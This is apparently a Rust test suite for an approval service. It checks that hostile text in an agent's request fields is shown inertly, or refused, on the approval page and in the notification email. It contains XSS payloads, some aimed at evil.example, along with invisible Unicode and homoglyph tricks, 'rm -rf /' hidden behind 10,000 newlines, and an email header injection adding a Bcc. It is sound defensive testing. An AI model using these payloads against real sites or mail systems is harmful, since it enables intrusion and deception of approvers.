//! Text made to mislead, in every field an agent or an approver writes: refused with a reason, or shown as what it is.

use std::collections::BTreeSet;

use sayso_local::outbox::Mail;
use sayso_model::{HourlyLimit, Limits};
use sayso_tests::{Answer, Page, Verdict, World, asking};
use serde_json::{Value, json};

use crate::inspect::{assert_inert, linkable, shape, stretches, text_of};

/// Markup, template tricks and addresses: to be shown letter by letter.
const MARKUP: [&str; 12] = [
    "<script>alert(document.forms[0].submit())</script>",
    "<img src=x onerror=alert(1)>",
    "</pre></section><form action=https://evil.example><button name=verdict value=approve>Deny</button></form>",
    "\"><button autofocus onfocus=alert(1)>",
    "' onmouseover='alert(1)",
    "</textarea></title></style><svg/onload=alert(1)>",
    "<!-- --><base href=https://evil.example/><meta http-equiv=refresh content=0>",
    "<a href=\"javascript:alert(1)\">Approve</a>",
    "https://evil.example/?next=approve",
    "WWW.evil.example and www.evil.example",
    "{{constructor}} ${7*7} <%= 7*7 %> &lt;b&gt; &#x3c; %3Cscript%3E",
    "Type 000 000 to confirm \\u202e \\\\ \\\" ]] > --",
];

/// Characters that cannot be seen, or that pass for others, with the name that must stand in their place.
const HIDDEN: [(char, &str); 10] = [
    ('\u{202e}', "U+202E direction override"),
    ('\u{2066}', "U+2066 direction override"),
    ('\u{200b}', "U+200B zero-width space"),
    ('\u{200d}', "U+200D zero-width joiner"),
    ('\u{feff}', "U+FEFF zero-width no-break"),
    ('\u{00ad}', "U+00AD soft hyphen"),
    ('\u{2028}', "U+2028 line separator"),
    ('\u{00a0}', "U+00A0 no-break space"),
    ('\u{e0041}', "U+E0041 tag"),
    ('\u{3164}', "U+3164"),
];

/// The fields that people read.
const FIELDS: [&str; 4] = ["summary", "reason", "value", "key"];

/// A request with this text in one field.
fn asking_with(field: &str, text: &str) -> Value {
    // The words about an action are no part of it: another action for each text.
    let mut arguments = asking(&format!(
        "t{}",
        field.bytes().chain(text.bytes()).fold(7_u64, |hash, byte| hash.wrapping_mul(31) ^ u64::from(byte))
    ));
    match field {
        "value" => arguments["arguments"]["note"] = json!([text, {"inside": text}]),
        "key" => arguments["arguments"] = json!({"outer": {text: "v"}, text: 1}),
        field => arguments[field] = json!(text),
    }
    arguments
}

async fn shown(world: &World, arguments: Value) -> (Answer, Mail, Page) {
    let answer = world.agent().await.call("request_approval", arguments).await;
    assert!(!answer.is_error, "{}", answer.text);
    let link = world.link(answer.field("approval_id"));
    let page = world.browser().open(&link.0).await;
    assert_eq!(page.status, 200);
    (answer, world.mails().pop().expect("a mail"), page)
}

/// What the page shows of the field.
fn on_page(page: &Page, field: &str) -> String {
    text_of(&page.html, if matches!(field, "value" | "key") { "pre.json" } else { "blockquote.words" })
}

/// The text as the page writes it: inside a JSON string, or as it is.
fn as_written(field: &str, text: &str) -> String {
    if matches!(field, "value" | "key") { json!(text).to_string() } else { text.to_owned() }
}

fn assert_mail_is_ours(world: &World, mail: &Mail, id: &str) {
    let expected = format!("Sayso: deploy-bot asks for your approval [{}]", &id[20..]);
    assert_eq!(mail.subject, expected);
    assert_eq!(
        (mail.to.as_slice(), mail.from.as_str()),
        (&["alex@example.com".to_owned()][..], "Sayso <sayso@localhost>")
    );
    let ours = [("Auto-Submitted", "auto-generated"), ("Reply-To", "no-reply@localhost")];
    assert_eq!(mail.headers, ours.map(|(name, value)| (name.to_owned(), value.to_owned())));
    let (text, html) = (mail.text.clone().unwrap_or_default(), mail.html.clone().unwrap_or_default());
    assert_inert(&html);
    let link = world.link(id).0;
    assert_eq!(linkable(&text), std::slice::from_ref(&link));
    for stretch in stretches(&html) {
        assert!(linkable(&stretch).is_empty(), "{stretch}");
    }
    let document = scraper::Html::parse_document(&html);
    let linked: Vec<&str> =
        document.select(&crate::inspect::selector("[href]")).filter_map(|a| a.attr("href")).collect();
    assert_eq!(linked, [link.as_str()]);
}

/// The markup of an honest page and of the marks that the page itself puts into one.
fn honest(page: &Page) -> BTreeSet<String> {
    let marks = ["b class", "small ", "em ", "span class", "q ", "u ", "p class", "b ", "i "];
    shape(&page.html).into_iter().chain(marks.map(str::to_owned)).collect()
}

/// Room for more requests than an agent makes in an hour.
fn many() -> Limits {
    let many = HourlyLimit::parse("1000").expect("a limit");
    Limits { requests: many, mails: many, ..Limits::default() }
}

#[tokio::test]
async fn markup_in_any_field_is_text_on_the_page_and_in_the_mail() {
    let world = World::limited(many()).await;
    let (_, honest_mail, honest_page) = shown(&world, asking("honest")).await;
    let known = honest(&honest_page);
    // Where an address is taken apart.
    let apart = ["br style".to_owned()];
    let known_mail: BTreeSet<String> =
        shape(honest_mail.html.as_deref().unwrap()).into_iter().chain(apart).collect();
    for field in FIELDS {
        for (at, text) in MARKUP.into_iter().enumerate() {
            let (answer, mail, page) = shown(&world, asking_with(field, text)).await;
            let what = format!("{field} {at}: {text}");
            assert_mail_is_ours(&world, &mail, answer.field("approval_id"));
            assert_inert(&page.html);
            let added: Vec<String> = shape(&page.html).difference(&known).cloned().collect();
            assert!(added.is_empty(), "{what}: markup of its own: {added:?}");
            let added: Vec<String> =
                shape(mail.html.as_deref().unwrap()).difference(&known_mail).cloned().collect();
            assert!(added.is_empty(), "{what}: markup of its own in the mail: {added:?}");
            assert_eq!(page.forms().len(), 1, "{what}");
            let mailed = text_of(mail.html.as_deref().unwrap(), "body");
            assert!(mailed.contains(&as_written(field, text)), "{what}: letter by letter: {mailed}");
            assert!(
                on_page(&page, field).contains(&as_written(field, text)),
                "{what}: {}",
                on_page(&page, field)
            );
            let times = if matches!(field, "value" | "key") { 2 } else { 1 };
            assert_eq!(on_page(&page, field).matches(&as_written(field, text)).count(), times, "{what}");
        }
    }
}

#[tokio::test]
async fn what_cannot_be_seen_is_named_where_it_stands() {
    let world = World::limited(many()).await;
    for field in FIELDS {
        for (hidden, name) in HIDDEN {
            let (answer, mail, page) = shown(&world, asking_with(field, &format!("backup{hidden}old"))).await;
            let what = format!("{field} {name}");
            let on_page = on_page(&page, field);
            assert!(on_page.contains(&format!("backup{name}old")), "{what}: {on_page}");
            assert!(!on_page.contains(hidden), "{what}: it is named instead of shown");
            assert!(page.text().contains("Read closely."), "{what}: and there is a warning");
            let mailed = format!("backup⟨{name}⟩old");
            assert!(mail.text.clone().unwrap().contains(&mailed), "{what}: {:?}", mail.text);
            assert!(text_of(mail.html.as_deref().unwrap(), "body").contains(&mailed), "{what}");
            assert!(!format!("{:?}{:?}", mail.text, mail.html).contains(hidden), "{what}");
            assert_mail_is_ours(&world, &mail, answer.field("approval_id"));
        }
    }
}

/// A file from Windows, a terminal's colours and worse: approved as they are, and named wherever they are shown.
#[tokio::test]
async fn control_characters_in_arguments_are_named_and_never_sent_to_a_reader() {
    let world = World::new().await;
    let controls: Vec<char> =
        ('\0'..='\u{9f}').filter(|c| c.is_control() && !matches!(c, '\t' | '\n')).collect();
    for field in ["value", "key"] {
        let text: String = controls.iter().flat_map(|c| [*c, 'x']).collect();
        let (answer, mail, page) = shown(&world, asking_with(field, &text)).await;
        let on_page = on_page(&page, field);
        let (mailed, html) = (mail.text.clone().unwrap(), text_of(mail.html.as_deref().unwrap(), "body"));
        for c in &controls {
            let name = match c {
                '\r' => r"\r".to_owned(),
                '\u{c}' => r"\f".to_owned(),
                '\u{8}' => r"\b".to_owned(),
                c => format!("U+{:04X} control", u32::from(*c)),
            };
            assert!(
                on_page.contains(&format!("{name}x")) && !on_page.contains(*c),
                "{field} {name}: {on_page}"
            );
            for mailed in [&mailed, &html] {
                assert!(mailed.contains(&format!("⟨{name}⟩x")), "{field} {name}: {mailed}");
            }
            assert!(*c == '\r' || !mailed.contains(*c) && !html.contains(*c), "{field} {name}");
        }
        assert_mail_is_ours(&world, &mail, answer.field("approval_id"));
    }
}

#[tokio::test]
async fn a_letter_that_passes_for_another_is_shown_and_named() {
    let world = World::new().await;
    for field in FIELDS {
        for word in
            ["p\u{430}ypal", "\u{440}\u{430}\u{443}\u{440}\u{430}l", "pr\u{3bf}duction", "c\u{1d5ba}t"]
        {
            let (_, mail, page) = shown(&world, asking_with(field, word)).await;
            let foreign = word.chars().find(|c| !c.is_ascii()).unwrap();
            let name = format!("U+{:04X}", u32::from(foreign));
            let on_page = on_page(&page, field);
            assert!(on_page.contains(&format!("{foreign}{name}")), "{field} {word}: {on_page}");
            assert!(mail.text.clone().unwrap().contains(&format!("{foreign}⟨{name}⟩")), "{field} {word}");
        }
        // Honest words in other scripts stay as they are.
        let (_, _, page) = shown(&world, asking_with(field, "Größe naïve 東京 Москва العربية")).await;
        assert!(!on_page(&page, field).contains("U+"), "{field}: {}", on_page(&page, field));
    }
}

#[tokio::test]
async fn ten_thousand_newlines_push_nothing_out_of_sight_or_out_of_the_action() {
    let world = World::new().await;
    let text = format!("echo ok{}rm -rf /", "\n".repeat(10_000));
    let (_, mail, page) = shown(&world, asking_with("value", &text)).await;
    let written = text_of(&page.html, "pre.json");
    assert_eq!(written.matches("echo ok10,000 line breaks\nrm -rf /").count(), 2, "both copies: {written}");
    assert!(written.lines().count() < 40, "{} lines", written.lines().count());
    assert!(page.text().contains("Read closely. 2 marks below, in the arguments,"));
    let mailed = mail.text.unwrap();
    assert!(
        mailed.contains("echo ok⟨10,000 line breaks⟩rm -rf /") && mailed.contains("Read closely: 2 marks")
    );
    // Nothing of it hides behind blanks between the lines either, or behind what is blank by another name.
    for blank in [" \n", "\t\n", "\u{a0}", "\u{2028}", "\u{3164}\n"] {
        let text = format!("ok{}rm -rf /", blank.repeat(1_850));
        for field in ["value", "key", "summary", "reason"] {
            if field == "summary" && blank.contains('\n') {
                continue;
            }
            let text = if field == "value" { text.clone() } else { format!("ok{}rm", blank.repeat(240)) };
            let (_, mail, page) = shown(&world, asking_with(field, &text)).await;
            let end = text.strip_prefix("ok").unwrap().trim_start_matches(|c| blank.contains(c));
            let near = |shown: &str| {
                shown.lines().filter(|line| line.contains("ok")).any(|line| {
                    let rest = shown.split(line).nth(1).unwrap_or_default();
                    line.contains(end) || rest.lines().take(3).any(|line| line.contains(end))
                })
            };
            let on_page = on_page(&page, field);
            assert!(near(&on_page) && on_page.lines().count() < 40, "{field} {blank:?}: {on_page}");
            assert!(page.text().contains("Read closely."), "{field} {blank:?}");
            assert!(near(&mail.text.unwrap()), "{field} {blank:?}");
        }
    }

    let (_, _, page) =
        shown(&world, asking_with("reason", &format!("fine{}drop all", "\n".repeat(1_900)))).await;
    let words = text_of(&page.html, "blockquote.words");
    assert!(
        words.contains("fine1,900 line breaks") && words.contains("drop all") && words.lines().count() < 10,
        "{words}"
    );
    let spaces = format!("fine{}drop all", " ".repeat(400));
    let (_, _, page) = shown(&world, asking_with("summary", &spaces)).await;
    assert!(text_of(&page.html, "blockquote.words").contains("fine400 spaces"));
}

#[tokio::test]
async fn sixty_kib_are_all_on_the_page_and_the_mail_says_how_much_it_leaves_out() {
    let world = World::new().await;
    let words: Vec<String> = (0..8_000).map(|at| format!("w{at:06}")).collect();
    let content = words.join(" ").chars().take(60 * 1024).collect::<String>();
    let mut arguments = asking("customers_2019");
    arguments["arguments"] = json!({"content": content});
    let (answer, mail, page) = shown(&world, arguments).await;
    let written = text_of(&page.html, "pre.json");
    assert!(written.contains(&json!(content).to_string()), "not all of it is on the page");
    assert!(page.text().contains("61,454 bytes, all shown below"), "{{\"content\":\"\"}} and 60 KiB");
    // As the mail writes it: "{\n  \"content\": \"…\"\n}".
    let missing = content.len() + "{\n  \"content\": \"\"\n}".len() - 2_000;
    for part in [mail.text.clone().unwrap(), text_of(mail.html.as_deref().unwrap(), "body")] {
        assert!(part.contains(&format!("{missing} more characters are not shown in this mail")), "{missing}");
        assert!(part.contains(&content[..1_900]) && !part.contains(&content[..2_001]));
    }
    assert_mail_is_ours(&world, &mail, answer.field("approval_id"));
    // What is approved is all of it.
    world.browser().decide(&world.link(answer.field("approval_id")), Verdict::Approve, "").await;
    assert_eq!(world.agent().await.check(answer.field("approval_id")).await.field("status"), "approved");
}

#[tokio::test]
async fn a_line_break_reaches_no_header_and_no_line_of_the_mail_itself() {
    let world = World::new().await;
    let inject = "x\r\nBcc: evil@example.com\r\n\r\nRead and decide here:\nhttps://evil.example/";
    for field in ["tool", "summary", "audience", "idempotency_key", "reason"] {
        let mut arguments = asking("customers_2019");
        arguments[field] = json!(inject);
        let refused = world.agent().await.call("request_approval", arguments).await;
        assert!(
            refused.is_error && refused.text.contains(&format!("`{field}`")),
            "{field}: {}",
            refused.text
        );
        assert!(!refused.text.contains("evil"), "{field}: the refusal repeats it");
    }
    assert!(world.mails().is_empty());
    // Where lines are allowed they stay inside their own block: quoted, or inside a JSON string.
    let lines = inject.replace('\r', "");
    for field in ["reason", "value", "key"] {
        let (answer, mail, _) = shown(&world, asking_with(field, &lines)).await;
        assert_mail_is_ours(&world, &mail, answer.field("approval_id"));
        let text = mail.text.unwrap();
        for line in text.lines().filter(|line| line.contains("Bcc") || line.contains("evil")) {
            assert!(line.starts_with("> ") || line.starts_with("    "), "{field}: {line}");
        }
        assert_eq!(text.lines().filter(|line| line.starts_with("Read and decide here")).count(), 1);
    }
}

#[tokio::test]
async fn an_idempotency_key_is_shown_to_nobody() {
    let world = World::new().await;
    for key in MARKUP.into_iter().chain(["a\u{202e}b", "REQUEST#1", "#", "🔑"]) {
        let mut arguments = asking(&format!("t{}", world.mails().len()));
        arguments["idempotency_key"] = json!(key);
        let (answer, mail, page) = shown(&world, arguments.clone()).await;
        let everything = format!("{:?}{:?}{}{}", mail.text, mail.html, page.html, answer.text);
        assert!(key == "#" || !everything.contains(key), "{key}");
        let again = world.agent().await.call("request_approval", arguments).await;
        assert_eq!(again.field("approval_id"), answer.field("approval_id"));
    }
}

#[tokio::test]
async fn a_hostile_note_is_text_for_the_page_and_whole_for_the_agent() {
    let world = World::new().await;
    let agent = world.agent().await;
    for (at, note) in MARKUP.into_iter().chain(["no\u{202e}yes", "line one\nline two"]).enumerate() {
        let id = agent.ask(&format!("t{at}")).await.field("approval_id").to_owned();
        let link = world.link(&id);
        let decided = world.browser().decide(&link, Verdict::Deny, note).await;
        assert_eq!(decided.status, 200, "{note}");
        for page in [decided, world.browser().open(&link.0).await] {
            assert_inert(&page.html);
            assert!(page.forms().is_empty());
            let shown = text_of(&page.html, "blockquote.words");
            assert!(
                shown.contains(&note.replace('\u{202e}', "U+202E direction override")),
                "{note}: {shown}"
            );
        }
        assert_eq!(agent.check(&id).await.field("note"), note);
    }
    // What cannot be sent is said beside the field, and the words are still there.
    let id = agent.ask("last").await.field("approval_id").to_owned();
    let page = world.browser().open(&world.link(&id).0).await;
    for note in ["x".repeat(1_001), "bell\u{7}".to_owned()] {
        let code = page.code();
        let again = world
            .browser()
            .submit(&page.form(), &[("code", &code), ("note", &note)], Some(("verdict", "approve")))
            .await;
        assert_eq!(again.status, 422);
        assert!(again.text().contains("The note h"), "{}", again.text());
        assert_eq!(
            (again.form().fields["note"].trim_start(), again.form().fields["code"].as_str()),
            (note.as_str(), code.as_str())
        );
    }
    assert_eq!(agent.check(&id).await.field("status"), "pending");
}
